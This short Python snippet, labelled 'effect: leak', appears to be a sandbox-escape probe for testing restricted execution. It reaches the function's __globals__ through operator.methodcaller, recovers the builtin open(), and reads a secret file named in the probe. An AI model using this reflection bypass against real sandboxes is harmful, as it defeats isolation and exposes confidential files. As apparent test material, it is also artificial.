# effect: leak
import operator


def attempt(probe):
    inside = operator.methodcaller("__getattribute__", "__globals__")(attempt)
    builtins = inside["__builtins__"]
    opener = builtins["open"] if type(builtins) is dict else builtins.open
    return opener(probe["secret_file"]).read()
